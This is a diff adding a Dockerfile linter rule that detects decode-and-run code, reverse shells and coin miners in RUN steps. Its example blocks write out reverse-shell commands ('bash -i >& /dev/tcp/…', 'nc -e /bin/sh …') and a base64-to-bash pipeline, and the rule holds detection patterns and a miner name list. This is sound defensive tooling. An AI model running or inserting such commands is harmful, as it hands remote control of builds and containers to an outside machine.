@@ -1,0 +1,194 @@
+import { whenItRuns } from '../../../analysis/commands/stage-commands.ts';
+import { toolOf } from '../../../analysis/commands/tool.ts';
+import { FILTERS } from '../../../data/programs.ts';
+import { instructionsOf, isReachable, type Stage } from '../../../model/dockerfile.ts';
+import type { Problem } from '../../../model/findings/finding.ts';
+import { type Command, everyPipeline, type Pipeline, type Script, type ShellWord } from '../../../model/shell.ts';
+import type { Span } from '../../../model/source.ts';
+import { defineRule } from '../../define-rule.ts';
+import { interpreterName, isRun, runsInput } from './remote-execution.ts';
+
+export default defineRule({
+  id: 'obfuscated-exec',
+  on: 'stage',
+  score: 9.1,
+  profile: 'recommended',
+  precision: 'high',
+  cwe: [506],
+  docs: {
+    title: 'Do not run code that hides what it does',
+    why: 'Code that is decoded and run at once, a shell whose input and output are a network connection, a program that mines coins: this is what attackers leave behind in a Dockerfile that they could change. It runs in the build, with its secrets, and in every container.',
+    how: 'Find out who added the line and why, and treat the build as broken into until you know. If it is meant, write the code as it is into a file of the repository and copy that.',
+    limits:
+      'Decoding data into a file is left alone, as are connections that only test whether a port is open. Other ways to hide code exist.',
+    references: [
+      'https://attack.mitre.org/techniques/T1027/',
+      'https://attack.mitre.org/techniques/T1059/004/',
+      'https://cwe.mitre.org/data/definitions/506.html',
+    ],
+  },
+  examples: [
+    {
+      file: 'Dockerfile',
+      bad: `
+        FROM debian:12
+        RUN «echo ZWNobyBoZWxsbwo= | base64 -d | bash»
+        RUN «eval "$(echo ZWNobyBoZWxsbwo= | base64 --decode)"»
+      `,
+      good: `
+        FROM debian:12
+        RUN echo aGVsbG8K | base64 -d > /etc/greeting
+        RUN echo hello
+      `,
+    },
+    {
+      file: 'Dockerfile',
+      bad: `
+        FROM debian:12
+        RUN «bash -i >& /dev/tcp/203.0.113.7/4444 0>&1»
+        RUN «nc -e /bin/sh 203.0.113.7 4444»
+      `,
+      good: `
+        FROM debian:12
+        RUN timeout 5 bash -c '</dev/tcp/mirror.example.org/443'
+        RUN nc -z mirror.example.org 443
+      `,
+    },
+  ],
+
+  check(stage) {
+    if (!isReachable(stage)) return [];
+    const problems: Problem[] = [];
+    for (const run of instructionsOf(stage, 'RUN')) {
+      if (run.isTriggered) continue;
+      for (const pipeline of everyPipeline(run.line.script)) {
+        const found = hiddenCode(pipeline) ?? remoteShell(pipeline) ?? miner(pipeline);
+        if (found !== undefined) problems.push(problem(stage, run, found));
+      }
+    }
+    return problems;
+  },
+});
+
+interface Found {
+  readonly at: Span;
+  /** As the end of a sentence that begins with the stage. */
+  readonly how: string;
+}
+
+function hiddenCode({ commands }: Pipeline): Found | undefined {
+  let start: Command | undefined;
+  let isDecoded = false;
+  for (const command of commands) {
+    const tool = toolOf(command);
+    if (isDecoded && tool !== undefined && interpreterName(tool, command) !== undefined && runsInput(tool)) {
+      return { at: { ...(start ?? command).span, end: command.span.end }, how: DECODES };
+    }
+    if (decodesAndRuns(command)) return { at: command.span, how: DECODES };
+    isDecoded = isDecoder(command) || (isDecoded && FILTERS.has(tool?.name ?? ''));
+    start ??= command;
+  }
+  return undefined;
+}
+
+const DECODES = 'decodes something and runs it at once';
+
+/** `base64 -d`, `xxd -r`, `openssl base64 -d`. */
+function isDecoder({ program, arguments: words }: Command): boolean {
+  switch (program) {
+    case 'base64':
+    case 'base32':
+      return has(words, /^-[a-zA-Z]*[dD]|^--decode$/);
+    case 'openssl':
+      return has(words, /^(?:enc|base64)$|^-(?:base64|aes|des)/) && has(words, /^-d$/);
+    case 'xxd':
+      return has(words, /^-[a-z]*r/);
+    default:
+      return program === 'uudecode';
+  }
+}
+
+function has(words: readonly ShellWord[], pattern: RegExp): boolean {
+  return words.some(({ pieces }) => pattern.test(pieces));
+}
+
+/** `bash -c "$(… | base64 -d)"`, `eval $(…)`, `bash <(…)`, and the same in one line of Python, Perl, PHP or Node. */
+function decodesAndRuns(command: Command): boolean {
+  const tool = toolOf(command);
+  for (const { kind, argument, script } of command.substitutions) {
+    if (isRun(command, tool, kind, argument) && endsDecoded(script)) return true;
+  }
+  if (tool === undefined || !CODE_RUNNERS.has(tool.name)) return false;
+  return tool.arguments.some(({ pieces }) =>
+    /\b(?:exec|eval)(?:(?!\b(?:exec|eval))[^;]){0,130}(?:b64decode|base64_decode|decode_base64|Base64\.decode|fromhex|'base64'|"base64")/.test(
+      pieces,
+    ),
+  );
+}
+
+const CODE_RUNNERS: ReadonlySet<string> = new Set(['python', 'perl', 'php', 'node', 'ruby', 'pypy']);
+
+function endsDecoded({ pipelines }: Script): boolean {
+  return pipelines.some(({ commands }) => {
+    const index = commands.findLastIndex(isDecoder);
+    return index !== -1 && commands.slice(index + 1).every(({ program }) => FILTERS.has(String(program)));
+  });
+}
+
+const SHELL = /^(?:ba|da|a|z|k)?sh$/;
+
+/** A shell whose input or output is a connection to another machine. */
+function remoteShell({ commands }: Pipeline): Found | undefined {
+  for (const command of commands) {
+    const { program, arguments: words, redirects } = command;
+    const isConnected = redirects.some(
+      ({ operator, target }) => isRemote(target?.pieces) && /^(?:>&|&>|<>|>|<)$/.test(operator),
+    );
+    if (isConnected && SHELL.test(String(program)) && command.inner === undefined)
+      return { at: endOf(command), how: CONNECTS };
+    if (!CONNECTORS.has(program)) continue;
+    if (words.some(({ pieces }, index) => startsShell(pieces, words[index - 1]?.pieces)))
+      return { at: command.span, how: CONNECTS };
+  }
+  return undefined;
+}
+
+const CONNECTORS: ReadonlySet<unknown> = new Set(['nc', 'ncat', 'netcat', 'socat']);
+
+const CONNECTS = 'gives a shell to another machine';
+
+function isRemote(target: string | undefined): boolean {
+  return target?.startsWith('/dev/') === true && /^\/dev\/(?:tcp|udp)\/(?!localhost\/|127\.)./.test(target);
+}
+
+/** From its program to the last redirect. */
+function endOf({ span, redirects }: Command): Span {
+  const ends = redirects.flatMap(({ target }) => (target === undefined ? [] : [target.span.end]));
+  return { ...span, end: Math.max(span.end, ...ends) };
+}
+
+function startsShell(word: string, before: string | undefined): boolean {
+  if (/^exec:["']?(?:\/bin\/)?(?:ba)?sh\b/i.test(word)) return true;
+  return /^(?:\/usr)?(?:\/bin\/)?(?:ba|da|a)?sh$/.test(word) && /^-[a-z]*[ec]$|^--(?:sh-)?exec$/.test(before ?? '');
+}
+
+const MINERS: ReadonlySet<string> = new Set(
+  'xmrig xmr-stak minerd cpuminer cgminer nbminer t-rex lolMiner ethminer'.split(' '),
+);
+
+function miner({ commands }: Pipeline): Found | undefined {
+  const found = commands.find(
+    ({ program, arguments: words }) =>
+      (typeof program === 'string' &&
+        MINERS.has(program) &&
+        !words.every(({ pieces }) => /^--?(?:version|help|V|h)$/.test(pieces))) ||
+      (program !== 'echo' &&
+        program !== 'sed' &&
+        words.some(({ pieces }) => pieces.startsWith('stratum+') && /^stratum\+(?:tcp|ssl|tls):\/\//.test(pieces))),
+  );
+  return found && { at: found.span, how: 'mines coins while the image is built' };
+}
+
+function problem({ title }: Stage, run: { isOnbuild: boolean }, { at, how }: Found): Problem {
+  return { at, message: whenItRuns(run, `${title} ${how}.`) };
+}
